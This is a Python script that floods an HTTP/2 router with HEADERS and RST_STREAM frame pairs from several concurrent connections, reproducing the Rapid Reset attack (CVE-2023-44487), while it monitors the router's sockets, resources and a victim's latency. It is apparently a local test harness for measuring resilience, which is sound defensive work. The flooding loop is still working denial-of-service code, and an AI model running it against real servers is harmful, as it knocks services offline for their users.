# Rapid reset from several connections at once (CVE-2023-44487 pattern), each sending N
# HEADERS+RST_STREAM pairs as fast as it can; samples router fds/RSS/CPU, router->backend
# sockets and a victim's latency every second meanwhile.
#   python3 rr_multi.py CONNS PAIRS_PER_CONN
import sys, threading
from common import *
from h2_attacks import nginx_status, drain
conns, n = int(sys.argv[1]), int(sys.argv[2])
a0, r0 = nginx_status()
res = []
def attack(k):
    t = h2conn(src=f"127.0.2.{k+1}", timeout=10)
    t.sendall(frame(SETTINGS, ACK, 0))
    sid, t0 = 1, time.time()
    try:
        while sid < 2 * n:
            batch = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, sid + 2*j, request_block()) +
                             frame(RST, 0, sid + 2*j, struct.pack(">I", 8)) for j in range(100))
            sid += 200
            t.sendall(batch)
            drain(t)
        res.append((k, (sid-1)//2, f"all sent in {time.time()-t0:.2f}s"))
    except OSError as e:
        res.append((k, (sid-1)//2, f"send failed {e.__class__.__name__} at {time.time()-t0:.2f}s"))
    time.sleep(20)
    t.close()
m = Monitor(interval=1, label="rr"); m.start()
ths = [threading.Thread(target=attack, args=(k,)) for k in range(conns)]
for th in ths: th.start()
peak = 0
t0 = time.time()
while any(th.is_alive() for th in ths):
    up = int(subprocess.run("ss -Htn '( dport = :47100 )' | wc -l", shell=True, capture_output=True, text=True).stdout)
    peak = max(peak, up)
    print(f"  t={time.time()-t0:.1f}s router<->backend sockets {up}", flush=True)
    time.sleep(1)
m.stop()
a1, r1 = nginx_status()
print(res)
print(f"backend: {a1-a0} new connections, {r1-r0} requests; peak router<->backend sockets {peak}")
